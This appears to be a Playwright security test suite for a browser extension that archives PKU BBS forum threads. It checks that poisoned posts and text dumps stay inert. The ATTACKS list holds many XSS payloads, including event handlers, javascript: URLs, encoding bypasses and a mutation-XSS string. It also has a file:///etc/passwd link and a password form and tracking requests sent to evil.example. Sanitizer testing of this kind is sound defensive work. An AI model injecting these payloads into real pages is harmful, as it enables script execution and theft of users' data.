import type { Page } from '@playwright/test'
import type { Forum } from '../forum/forum.ts'
import { generateThread } from '../forum/generate.ts'
import { waitForThread } from './archive.ts'
import { opened, openOwnPage, openPopup } from './extension-pages.ts'
import { expect, openThread, test, threadUrl } from './fixtures.ts'

/**
 * What a hostile writer may put into a post, on the forum's page and in a dump: nothing of it runs or asks a server for
 * anything in the popup, the library or the reader, and the aids make nothing of it on the forum's page.
 */

/** Every host of the web is the local forum, which writes down who was asked for. */
const EVIL = 'evil.example'

const ATTACKS = [
  `<img src="https://${EVIL}/pixel.png" onerror="alert(1)">`,
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">脚本一</a>',
  '<a href="java&#x0A;script&#58;alert(1)">脚本二</a>',
  '<a href=" &#1; javascript:alert(1)">脚本三</a>',
  '<a href="data:text/html,<script>alert(1)</script>">数据</a>',
  '<a href="vbscript:msgbox(1)">旧脚本</a>',
  '<a href="blob:https://bbs.pku.edu.cn/1">块</a>',
  '<a href="file:///etc/passwd">文件</a>',
  '<a href="jump-to.php?url=javascript%3Aalert(1)">跳转一</a>',
  '<a href="jump-to.php?url=data%3Atext%2Fhtml%2C%3Cscript%3Ealert(1)%3C%2Fscript%3E">跳转二</a>',
  '<a href="jump-to.php?url=%6aavascript%3Aalert(1)">跳转三</a>',
  '<a href="jump-to.php?url=jump-to.php%3Furl%3Djavascript%3Aalert(1)">跳转四</a>',
  `<style>body { display: none !important; background: url(https://${EVIL}/style.png) }</style>`,
  `<form action="https://${EVIL}/form"><input name="password" autofocus onfocus="alert(1)"><button>交</button></form>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<iframe src="https://${EVIL}/frame"></iframe>`,
  '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>矢量</text></a></svg>',
  `<object data="https://${EVIL}/object"></object><embed src="https://${EVIL}/embed">`,
  `<video src="https://${EVIL}/video" autoplay onerror="alert(1)"></video><audio src="https://${EVIL}/audio"></audio>`,
  '<details open ontoggle="alert(1)"><summary>展开</summary>里面</details>',
  '<p onclick="alert(1)" onmouseover="alert(1)" onanimationstart="alert(1)">事件</p>',
  `<p style="position:fixed;inset:0;background:url(https://${EVIL}/css.png);list-style:url(//${EVIL}/l)">样式</p>`,
  `<p style="background-image:image-set('https://${EVIL}/set.png' 1x);cursor:url(https://${EVIL}/c.png),auto">样式二</p>`,
  '<img name="getElementById"><img id="currentScript"><a id="location"></a><a id="app"></a><div id="thread">撞名</div>',
  '<div id="posts" class="post post-body loulan-length">撞类</div><article class="post" data-post-id="1">假楼</article>',
  '<p data-loulan="length" class="loulan-length">假记号</p><p data-loulan-around="length">假包</p>',
  `<a data-loulan-unwrap-links='{"href":"javascript:alert(1)"}' href="https://ok.example/">假记录</a>`,
  `<p data-loulan-length='{"onclick":"alert(1)","style":"display:none"}'>假记录二</p>`,
  '<p>反向\u202e字符\u2066隔离\u2069\u200b零宽</p>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  `<base href="https://${EVIL}/"><link rel="stylesheet" href="https://${EVIL}/sheet.css">`,
  '<x-element onclick="alert(1)" is="x">自定义</x-element>',
  '<a href="https://ok.example/" target="_top" ping="https://evil.example/ping" download>好链接</a>',
] as const

/** Swallows all that follows it once its HTML is written out and read again: it stands in the last post. */
const SWALLOWING =
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></math>'

const LAST = '最后一句，人人读得到。'
const THREAD = generateThread({ posts: 3, seed: 66, title: '<img src=x onerror=alert(1)>标题' })
const KEY = `pku-bbs/bbs.pku.edu.cn/${THREAD.board.id}/${THREAD.id}`

/** The posts of the forum's own page run their scripts there, which is the forum's matter: one that does not, for us. */
const HARMLESS_ON_THE_FORUM = ATTACKS.filter((attack) =>
  /data-loulan|<a href="(?:java|jump)|id="thread"|class="post/.test(attack),
)

interface Watched {
  dialogs: string[]
  violations: string[]
  errors: string[]
}

/** Writes down what only an attack that worked, or was stopped at the last door, would cause. */
function watch(page: Page): Watched {
  const watched: Watched = { dialogs: [], violations: [], errors: [] }
  page.on('dialog', (dialog) => {
    watched.dialogs.push(dialog.message())
    void dialog.dismiss().catch(() => undefined)
  })
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to|violates/i.test(message.text())) watched.violations.push(message.text())
  })
  page.on('pageerror', (error) => watched.errors.push(error.message))
  return watched
}

function evilRequests(forum: Forum): string[] {
  return forum.requests.filter(({ host }) => host.includes(EVIL)).map(({ host, path }) => host + path)
}

/** What stands in the document and must not; closed shadow trees apart. */
function findDangers(): string[] {
  const dangers: string[] = []
  const forbidden =
    'script, iframe, frame, object, embed, form, input, base, meta, link, style, svg, math, template, video, audio'
  const places = '.post, h1, .facts, .thread-line, .longest-posts, .link-list'
  for (const element of document.querySelectorAll(`:is(${places}) :is(${forbidden})`))
    dangers.push(element.outerHTML.slice(0, 100))
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isAddress = ['href', 'src', 'action', 'formaction', 'xlink:href', 'ping', 'srcdoc', 'data'].includes(name)
      if (name.startsWith('on')) dangers.push(`${element.tagName} ${name}`)
      if (isAddress && !/^(?:https?:|chrome-extension:|[/#]|data:image\/(?:png|jpeg|gif|webp);|$)/.test(value))
        dangers.push(`${name}=${value}`)
      if (name === 'style' && /url\(|image|position|@import/i.test(value)) dangers.push(`style=${value}`)
      if (name === 'ping' || name === 'is') dangers.push(name)
    }
  }
  for (const id of ['thread', 'posts', 'app', 'thread-title']) {
    if (document.querySelectorAll(`[id="${id}"]`).length > 1) dangers.push(`twice #${id}`)
  }
  return dangers
}

/** What a reader might do who clicks on everything in the posts. */
async function clickLinks(page: Page, selector: string): Promise<void> {
  for (const link of await page.locator(selector).all()) await link.dispatchEvent('click', { button: 1 })
}

test('a forum’s poisoned page reaches neither popup, library nor reader', async ({ page, extension, forum }) => {
  forum.control.addThread(THREAD)
  forum.control.editPost(THREAD.id, THREAD.posts[0]!.id, { body: `<p>${ATTACKS.join('</p><p>')}</p><p>${LAST}</p>` })
  forum.control.editPost(THREAD.id, THREAD.posts[2]!.id, { body: `<p>${SWALLOWING}</p>` })
  const nickname = '<img src=x onerror=alert(1)><svg onload=alert(1)>恶名'
  forum.control.getPost(THREAD.id, THREAD.posts[1]!.id).author = { ...THREAD.posts[1]!.author, nickname }
  page.on('dialog', (dialog) => void dialog.dismiss().catch(() => undefined)) // The forum's page runs all of it.
  await page.goto(threadUrl(THREAD))
  await waitForThread(extension, KEY, 3)
  const popup = await extension.context.newPage()
  const inPopup = watch(popup)
  const tab = await openPopup(extension, page)
  await popup.goto(tab.url())
  await expect(popup.getByRole('heading', { level: 1 })).toHaveText('<img src=x onerror=alert(1)>标题')
  expect(await popup.evaluate(findDangers)).toEqual([])
  await tab.close()
  await page.goto('about:blank')
  forum.requests.length = 0

  const reader = await extension.context.newPage()
  const inReader = watch(reader)
  await reader.goto(extension.extensionUrl(`reader.html#${encodeURIComponent(KEY)}`))
  await expect(reader.getByText(LAST)).toBeVisible()
  await expect(reader.getByRole('heading', { level: 1 })).toHaveText('<img src=x onerror=alert(1)>标题')
  expect(await reader.evaluate(findDangers)).toEqual([])
  await expect(reader.locator('.post')).toHaveCount(3)
  await expect(reader.locator('.loulan-length')).toHaveCount(1)
  await expect(reader.getByText('恶名')).toBeVisible()
  await clickLinks(reader, '.post-body a[href^="#"], .post-body p')

  const library = await extension.context.newPage()
  const inLibrary = watch(library)
  await library.goto(extension.extensionUrl('library.html'))
  await expect(library.locator('.thread-line a', { hasText: '<img src=x onerror=alert(1)>标题' })).toBeVisible()
  expect(await library.evaluate(findDangers)).toEqual([])

  for (const watched of [inPopup, inReader, inLibrary])
    expect(watched).toEqual({ dialogs: [], violations: [], errors: [] })
  expect(evilRequests(forum)).toEqual([])
  expect(forum.requests).toEqual([])
  for (const each of [popup, reader, library]) await each.close()
})

test('a picture is asked for only when the reader wants it, and then without where from', async ({
  extension,
  forum,
}) => {
  forum.requests.length = 0
  const popup = await openPopup(extension)
  const reader = await openDump(popup, `看图 ![照片](https://${EVIL}/pixel.png) 完`)
  await expect(reader.getByRole('button', { name: '显示图片 · 照片' })).toBeVisible()
  expect(evilRequests(forum)).toEqual([])
  const [request] = await Promise.all([
    reader.waitForRequest(`https://${EVIL}/pixel.png`),
    reader.getByRole('button', { name: '显示图片 · 照片' }).click(),
  ])
  expect((await request.allHeaders()).referer ?? '').toBe('')
  for (const each of [popup, reader]) await each.close()

  async function openDump(page: Page, body: string): Promise<Page> {
    const text = `#t 22 6601 ada 2024-01-01 10:00:00 ada 2024-01-01 10:00:00\n图\n\n#p 1 ada 2024-01-01 10:00:00\n${body}\n`
    return opened(extension, async () => {
      await page.getByLabel('打开一份帖子文本').fill(text)
      await page.getByLabel('打开一份帖子文本').press('Control+Enter')
    })
  }
})

test('a poisoned dump is text and nothing else', async ({ extension, forum }) => {
  forum.requests.length = 0
  const lines = [
    ...ATTACKS,
    SWALLOWING,
    '[链接](javascript:alert(1)) [链接](data:text/html,x) [链接](jump-to.php?url=javascript:alert(1))',
    '![图](javascript:alert(1)) ![图](data:image/svg+xml;base64,PHN2Zz4=) [好的](https://ok.example/"onclick="alert(1))',
    '[<img src=x onerror=alert(1)>](https://ok.example/?"><script>alert(1)</script>)',
    LAST,
  ]
  const time = '2024-01-01 10:00:00'
  const dump = [
    `#t 22 6602 <script>alert(1)</script> ${time} ada ${time}`,
    '<svg onload=alert(1)>毒',
    '',
    `#p 6602 <b>ada</b> <img src=x onerror=alert(1)>名 ${time}`,
    ...lines,
    '#quote <i>bob</i>',
    '<img src=x onerror=alert(1)>引文',
    '',
  ].join('\n')
  const popup = await openOwnPage(extension, 'popup.html?tab=0')
  const inPopup = watch(popup)
  const reader = await opened(extension, async () => {
    await popup.getByLabel('打开一份帖子文本').fill(dump)
    await popup.getByLabel('打开一份帖子文本').press('Control+Enter')
  })
  await expect(reader.getByText(LAST)).toBeVisible()
  const inReader = watch(reader)
  await reader.reload()
  await expect(reader.getByText(LAST)).toBeVisible()
  expect(await reader.evaluate(findDangers)).toEqual([])
  expect(await popup.evaluate(findDangers)).toEqual([])
  await expect(reader.getByRole('heading', { level: 1 })).toHaveText('<svg onload=alert(1)>毒')
  await expect(reader.locator('.post-body')).toContainText(
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  )
  expect(await reader.locator('.post-body :is(img, form, svg, style, iframe)').count()).toBe(0)
  for (const watched of [inPopup, inReader]) expect(watched).toEqual({ dialogs: [], violations: [], errors: [] })
  expect(evilRequests(forum)).toEqual([])
  for (const each of [popup, reader]) await each.close()
})

test('on the forum’s page the aids trust neither forged marks nor unwrapped scripts', async ({
  page,
  extension,
  forum,
}) => {
  forum.control.addThread(THREAD)
  forum.control.editPost(THREAD.id, THREAD.posts[0]!.id, {
    body: `<p>${HARMLESS_ON_THE_FORUM.join('</p><p>')}</p><p>${LAST}</p>`,
  })
  const watched = watch(page)
  await openThread(page, THREAD)
  await expect(page.locator('#post-read > .loulan-length, #post-read .loulan-length[role=note]')).toHaveCount(1)
  const jumps = await page
    .locator('.body a')
    .evaluateAll((links) =>
      links.filter(({ textContent }) => textContent?.startsWith('跳转')).map((link) => link.getAttribute('href')!),
    )
  expect(jumps).toHaveLength(4)
  expect(jumps.filter((href) => !/^(?:https:\/\/bbs\.pku\.edu\.cn\/v2\/)?jump-to\.php\?url=/.test(href))).toEqual([])
  const ours = await page.locator('[onclick]').count()
  expect(ours).toBe(0)
  // What the forged records ask for must not come about when all is undone either.
  const worker = await extension.serviceWorker()
  const off = Object.fromEntries(
    ['length', 'collapse-long-posts', 'unwrap-links'].map((id) => [`aid:${id}`, { enabled: false }]),
  )
  await worker.evaluate((values) => chrome.storage.local.set(values), off)
  await expect(page.locator('.loulan-length[role=note]')).toHaveCount(0)
  expect(await page.locator('[onclick]').count()).toBe(0)
  await expect(page.getByText('假记录', { exact: true })).not.toHaveAttribute('href', /javascript/)
  await worker.evaluate(() => chrome.storage.local.clear())
  expect(watched.dialogs).toEqual([])
})
